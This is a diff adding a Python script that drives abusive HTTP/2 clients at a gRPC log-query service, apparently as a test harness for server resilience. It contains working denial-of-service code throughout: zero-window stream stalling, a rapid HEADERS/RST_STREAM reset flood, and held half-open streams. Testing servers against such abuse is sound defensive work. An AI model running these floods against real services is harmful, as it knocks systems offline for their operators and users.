@@ -1,0 +1,176 @@
+"""abuse_h2.py -- abusive HTTP/2 clients, forged frame by frame (python3-h2).
+
+usage:
+  abuse_h2.py stall ADDR N PROJECT SERVICE SECS
+      One connection that announces an initial stream window of 0 (it never
+      reads a byte of any answer) and opens N QueryServiceLogs streams as
+      fast as the server's stream limit lets it; prints "opened K" once it
+      has opened what it can, "settled E" once the server has been silent
+      for a second (E streams ended so far: answers that need no window,
+      such as errors), then holds everything for SECS seconds more and
+      prints "reset K": the streams the server ended in all.
+  abuse_h2.py reset ADDR N PROJECT SERVICE
+      N x (HEADERS + DATA + RST_STREAM) as fast as the socket takes them;
+      prints "sent N".
+  abuse_h2.py halfopen ADDR N SECS
+      N streams with HEADERS only (no request message, no end of stream),
+      held SECS seconds, then the connection is closed; prints "opened K".
+"""
+import select
+import socket
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+import h2.settings
+
+sys.path.insert(0, __file__.rsplit("/", 1)[0])
+from wire import request  # noqa: E402
+
+PATH = "/modelarts.v1.ServiceLogs/QueryServiceLogs"
+
+
+def connect(addr, window=None):
+    host, port = addr.rsplit(":", 1)
+    s = socket.create_connection((host, int(port)))
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    c = h2.connection.H2Connection(h2.config.H2Configuration(
+        client_side=True, header_encoding="utf-8"))
+    c.initiate_connection()
+    if window is not None:
+        c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE:
+                           window})
+    s.sendall(c.data_to_send())
+    return s, c
+
+
+def pump(s, c, timeout):
+    """Reads what the server sent for up to timeout seconds; returns the
+    events (h2 acknowledges SETTINGS and PINGs by itself)."""
+    events = []
+    end = time.monotonic() + timeout
+    while True:
+        left = end - time.monotonic()
+        if left <= 0:
+            break
+        r, _, _ = select.select([s], [], [], left)
+        if not r:
+            break
+        data = s.recv(65536)
+        if not data:
+            events.append("closed")
+            break
+        events.extend(c.receive_data(data))
+        out = c.data_to_send()
+        if out:
+            s.sendall(out)
+        if timeout == 0:
+            break
+    return events
+
+
+def headers(addr):
+    return [(":method", "POST"), (":scheme", "http"), (":path", PATH),
+            (":authority", addr), ("content-type", "application/grpc"),
+            ("te", "trailers")]
+
+
+def grpc_frame(msg):
+    return b"\x00" + len(msg).to_bytes(4, "big") + msg
+
+
+def stall(addr, n, project, service, secs):
+    s, c = connect(addr, window=0)
+    pump(s, c, 0.5)  # the server's SETTINGS: its stream limit
+    body = grpc_frame(request(project, service))
+    opened = 0
+    for _ in range(n):
+        sid = c.get_next_available_stream_id()
+        try:
+            c.send_headers(sid, headers(addr))
+        except h2.exceptions.TooManyStreamsError:
+            break
+        c.send_data(sid, body, end_stream=True)
+        s.sendall(c.data_to_send())
+        opened += 1
+        pump(s, c, 0)
+    print("opened %d" % opened, flush=True)
+    # Settled: a second with nothing from the server, which has then done
+    # all it will with the streams (answered what it could; the rest wait
+    # in the zero window). The hold of SECS counts from there.
+    ended, last = 0, time.monotonic()
+    settled_at = None
+    while True:
+        now = time.monotonic()
+        if settled_at is None and now - last >= 1.0:
+            settled_at = now
+            print("settled %d" % ended, flush=True)
+        if settled_at is not None and now - settled_at >= secs:
+            break
+        evs = pump(s, c, 0.2)
+        for ev in evs:
+            if isinstance(ev, (h2.events.StreamReset, h2.events.StreamEnded)):
+                ended += 1
+            if ev == "closed":
+                secs = 0
+        if evs:
+            last = time.monotonic()
+    print("reset %d" % ended, flush=True)
+    s.close()
+
+
+def reset(addr, n, project, service):
+    s, c = connect(addr)
+    pump(s, c, 0.5)
+    body = grpc_frame(request(project, service))
+    for i in range(n):
+        sid = c.get_next_available_stream_id()
+        c.send_headers(sid, headers(addr))
+        c.send_data(sid, body)
+        c.reset_stream(sid)
+        if i % 100 == 99:
+            s.sendall(c.data_to_send())
+            pump(s, c, 0)
+    s.sendall(c.data_to_send())
+    print("sent %d" % n, flush=True)
+    pump(s, c, 1.0)
+    s.close()
+
+
+def halfopen(addr, n, secs):
+    s, c = connect(addr)
+    pump(s, c, 0.5)
+    opened = 0
+    for _ in range(n):
+        sid = c.get_next_available_stream_id()
+        try:
+            c.send_headers(sid, headers(addr))
+        except h2.exceptions.TooManyStreamsError:
+            break
+        opened += 1
+        if opened % 100 == 0:
+            s.sendall(c.data_to_send())
+            pump(s, c, 0)
+    s.sendall(c.data_to_send())
+    print("opened %d" % opened, flush=True)
+    pump(s, c, secs)
+    s.close()
+
+
+def main():
+    mode, a = sys.argv[1], sys.argv[2:]
+    if mode == "stall":
+        stall(a[0], int(a[1]), a[2], a[3], float(a[4]))
+    elif mode == "reset":
+        reset(a[0], int(a[1]), a[2], a[3])
+    elif mode == "halfopen":
+        halfopen(a[0], int(a[1]), float(a[2]))
+    else:
+        sys.exit(__doc__)
+
+
+if __name__ == "__main__":
+    main()
